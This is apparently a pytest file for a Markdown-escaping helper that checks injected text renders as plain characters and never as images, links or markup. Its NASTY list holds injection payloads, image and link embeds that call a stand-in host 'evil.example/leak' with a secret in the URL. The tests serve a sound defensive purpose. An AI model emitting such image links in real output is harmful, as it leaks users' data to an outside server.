"""core.safe_text: data-derived text shown as Markdown renders as its own characters, never as an
image, a link or markup. Rendered with a real CommonMark parser (markdown-it, as in the browser)."""

from __future__ import annotations

import html
import re

import pytest
from markdown_it import MarkdownIt

from core.safe_text import defuse_md, escape_md

URL = "https://evil.example/leak?d=secret"
NASTY = [
    f"![x]({URL})",
    f"[click]({URL})",
    f"<img src={URL}>",
    f"<{URL}>",
    ":red[alarm] :material/warning: $x^2$",
    "a`b ![z](" + URL + ") `c",
    "# heading\n- item\n\n| t |",
    "**bold** _it_ ~~s~~ \\ back\\slash",
    f"![x][r]\n\n[r]: {URL}",
    "col\rname\u2028two",
    "",
]
MD = MarkdownIt("commonmark")


def _text_of(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()


@pytest.mark.parametrize("value", NASTY)
def test_escaped_text_renders_as_itself(value):
    for code in (False, True):
        out = MD.render(f"Column: {escape_md(value, code=code)}")
        assert "<img" not in out and "<a " not in out and "<h1" not in out and "<li" not in out, out
        shown = " ".join(re.sub(r"[\r\n\u2028\u2029]+", " ", value).split())
        assert " ".join(_text_of(out).split()) == " ".join(f"Column: {shown}".split())


def test_code_spans_cannot_be_closed_from_inside():
    out = MD.render(escape_md("a``b` ![x](u)", code=True))
    assert out.count("<code>") == 1 and "<img" not in out


def test_unescaped_text_would_have_fetched():
    """The same strings without the helper do render an image: the test above is not vacuous."""
    assert "<img" in MD.render(f"Column: {NASTY[0]}")


def test_defused_report_keeps_formatting_but_loads_no_image():
    doc = f"# Report\n\n**Columns:** ![x]({URL}) and `code`\n\n| a | b |\n"
    out = MD.render(defuse_md(doc))
    assert "<h1>" in out and "<strong>" in out and "<img" not in out


def test_long_values_are_cut():
    assert len(escape_md("x" * 10_000)) < 2100
